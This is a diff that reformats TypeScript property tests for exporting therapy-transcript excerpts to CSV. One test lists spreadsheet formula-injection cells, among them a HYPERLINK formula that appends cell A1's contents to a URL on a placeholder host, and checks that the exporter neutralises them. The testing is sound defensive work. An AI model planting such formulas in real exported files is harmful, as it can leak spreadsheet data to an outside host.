@@ -17,7 +17,53 @@ const speakers: Speaker[] = [
 /** Text mixing CSV and cell syntax, CA notation, astral-plane characters and line breaks. */
 const tricky = fc.oneof(
   fc.string({ unit: 'grapheme', maxLength: 30 }),
-  fc.array(fc.constantFrom('"', ',', ';', '\n', '\r\n', '\r', '\\', '\\n', '{turn} ', '{omission}', 'Client: ', 'client:', '(5.0)', '……', '[…]', '°', '↑', '>fast<', '[', ']', '=', '::', '(.)', '.hhh', '😀', '👩🏽‍⚕️', '𝄞', ' ', '\t', 'word', '—', '’', '\uFEFF', "'", '+', '-', '@', '12 ', '95\t', '7'), { minLength: 1, maxLength: 12 }).map((parts) => parts.join('')),
+  fc
+    .array(
+      fc.constantFrom(
+        '"',
+        ',',
+        ';',
+        '\n',
+        '\r\n',
+        '\r',
+        '\\',
+        '\\n',
+        '{turn} ',
+        '{omission}',
+        'Client: ',
+        'client:',
+        '(5.0)',
+        '……',
+        '[…]',
+        '°',
+        '↑',
+        '>fast<',
+        '[',
+        ']',
+        '=',
+        '::',
+        '(.)',
+        '.hhh',
+        '😀',
+        '👩🏽‍⚕️',
+        '𝄞',
+        ' ',
+        '\t',
+        'word',
+        '—',
+        '’',
+        '\uFEFF',
+        "'",
+        '+',
+        '-',
+        '@',
+        '12 ',
+        '95\t',
+        '7',
+      ),
+      { minLength: 1, maxLength: 12 },
+    )
+    .map((parts) => parts.join('')),
 );
 const nonEmpty = tricky.filter((text) => text.length > 0);
 const trimmed = tricky.map((text) => text.trim()).filter((text) => text.length > 0);
@@ -27,7 +73,14 @@ const lineNumber = { number: fc.integer({ min: 1, max: 99_999 }) };
 const line: fc.Arbitrary<Line> = fc.oneof(
   fc.record({ kind: fc.constant('turn' as const), speaker: fc.constantFrom('client', 'therapist', 'researcher'), text: nonEmpty, ...lineNumber }, { requiredKeys: ['kind', 'speaker', 'text'] }),
   fc.record({ kind: fc.constant('turn' as const), text: nonEmpty, ...lineNumber }, { requiredKeys: ['kind', 'text'] }),
-  fc.record({ kind: fc.constant('silence' as const), text: fc.tuple(fc.nat(99), fc.option(fc.nat(9), { nil: undefined })).map(([whole, tenth]) => `(${whole}${tenth === undefined ? '' : `.${tenth}`})`), ...lineNumber }, { requiredKeys: ['kind', 'text'] }),
+  fc.record(
+    {
+      kind: fc.constant('silence' as const),
+      text: fc.tuple(fc.nat(99), fc.option(fc.nat(9), { nil: undefined })).map(([whole, tenth]) => `(${whole}${tenth === undefined ? '' : `.${tenth}`})`),
+      ...lineNumber,
+    },
+    { requiredKeys: ['kind', 'text'] },
+  ),
   fc.record({ kind: fc.constant('omission' as const), text: nonEmpty }),
 );
 const excerpt: fc.Arbitrary<Excerpt> = fc
@@ -38,7 +91,10 @@ const excerpt: fc.Arbitrary<Excerpt> = fc
     step: fc.option(slug, { nil: undefined }),
     source: fc.constantFrom('session-transcript' as const, 'participant-commentary' as const),
     lines: fc.array(line, { minLength: 1, maxLength: 6 }),
-    codes: fc.uniqueArray(fc.tuple(fc.integer({ min: 1, max: 9 }), fc.nat(12)).map(([a, b]) => `${a}.${b}`), { minLength: 1, maxLength: 4 }),
+    codes: fc.uniqueArray(
+      fc.tuple(fc.integer({ min: 1, max: 9 }), fc.nat(12)).map(([a, b]) => `${a}.${b}`),
+      { minLength: 1, maxLength: 4 },
+    ),
     leadIn: trimmed,
     interpretation: trimmed,
     article: fc.record({ section: trimmed, page: fc.option(fc.integer({ min: 1, max: 400 }), { nil: undefined }), order: fc.integer({ min: 1, max: 500 }) }),
@@ -95,25 +151,42 @@ describe('lines as text', () => {
   });
 
   it('gives back every valid line (property)', () => {
-    fc.assert(fc.property(fc.array(line, { minLength: 1, maxLength: 8 }), (lines) => {
-      expect(readLines(writeLines(lines, speakers), speakers).map((located) => located.line)).toEqual(lines);
-    }), { numRuns: 500 });
+    fc.assert(
+      fc.property(fc.array(line, { minLength: 1, maxLength: 8 }), (lines) => {
+        expect(readLines(writeLines(lines, speakers), speakers).map((located) => located.line)).toEqual(lines);
+      }),
+      { numRuns: 500 },
+    );
   });
 });
 
 describe('excerpts as CSV', () => {
   it('round-trips arbitrary valid excerpts without loss (property)', () => {
-    fc.assert(fc.property(fc.array(excerpt, { minLength: 1, maxLength: 5 }), (excerpts) => {
-      const csv = excerptsToCsv(excerpts, speakers);
-      const { rows, problems } = readExcerptCsv(csv, speakers);
-      expect(problems).toEqual([]);
-      expect(rows.map((row) => ExcerptSchema.parse(row.excerpt))).toEqual(excerpts);
-    }), { numRuns: 300 });
+    fc.assert(
+      fc.property(fc.array(excerpt, { minLength: 1, maxLength: 5 }), (excerpts) => {
+        const csv = excerptsToCsv(excerpts, speakers);
+        const { rows, problems } = readExcerptCsv(csv, speakers);
+        expect(problems).toEqual([]);
+        expect(rows.map((row) => ExcerptSchema.parse(row.excerpt))).toEqual(excerpts);
+      }),
+      { numRuns: 300 },
+    );
   });
 
   it('is Excel-friendly: BOM, CRLF rows, line breaks only inside quoted cells', () => {
     const [sample] = fc.sample(excerpt, { numRuns: 1, seed: 7 });
-    const csv = excerptsToCsv([{ ...sample!, lines: [{ kind: 'turn', speaker: 'client', text: 'a' }, { kind: 'turn', text: 'b' }] }], speakers);
+    const csv = excerptsToCsv(
+      [
+        {
+          ...sample!,
+          lines: [
+            { kind: 'turn', speaker: 'client', text: 'a' },
+            { kind: 'turn', text: 'b' },
+          ],
+        },
+      ],
+      speakers,
+    );
     expect(csv.startsWith('\uFEFFid,title,session,step,source,lines,codes,lead-in,interpretation,article section,article page,article order,notes,not loud\r\n')).toBe(true);
     expect(csv).toContain('"Client: a\nb"');
   });
@@ -123,19 +196,24 @@ describe('excerpts as CSV', () => {
   const formulaCells = ['=1+1', '=HYPERLINK("https://example.org/?q="&A1,"x")', '+41 22', '-2+3', '@SUM(A1:A2)', '\tx', '\rx', "'=x", "''@y", "'plain", "'"];
   it('writes no cell a spreadsheet would run as a formula, and reads each back unchanged', () => {
     const [sample] = fc.sample(excerpt, { numRuns: 1, seed: 11 });
-    const excerpts = formulaCells.map((text, index) => ExcerptSchema.parse({
-      ...sample!,
-      id: `cell-${index}`,
-      title: text,
-      lines: [{ kind: 'turn', text }, { kind: 'turn', speaker: 'client', text }],
-      leadIn: text,
-      interpretation: text,
-      notes: [text],
-    }));
+    const excerpts = formulaCells.map((text, index) =>
+      ExcerptSchema.parse({
+        ...sample!,
+        id: `cell-${index}`,
+        title: text,
+        lines: [
+          { kind: 'turn', text },
+          { kind: 'turn', speaker: 'client', text },
+        ],
+        leadIn: text,
+        interpretation: text,
+        notes: [text],
+      }),
+    );
     const csv = excerptsToCsv(excerpts, speakers);
     const cells = (parse(csv.slice(1), { relax_column_count: true }) as string[][]).flat();
     expect(cells.filter((cell) => /^[=+\-@\t\r]/u.test(cell))).toEqual([]);
-    expect(cells).toContain("'=HYPERLINK(\"https://example.org/?q=\"&A1,\"x\")");
+    expect(cells).toContain('\'=HYPERLINK("https://example.org/?q="&A1,"x")');
     expect(cells).toContain("''=x");
     expect(cells).toContain("'plain");
     const { rows, problems } = readExcerptCsv(csv, speakers);
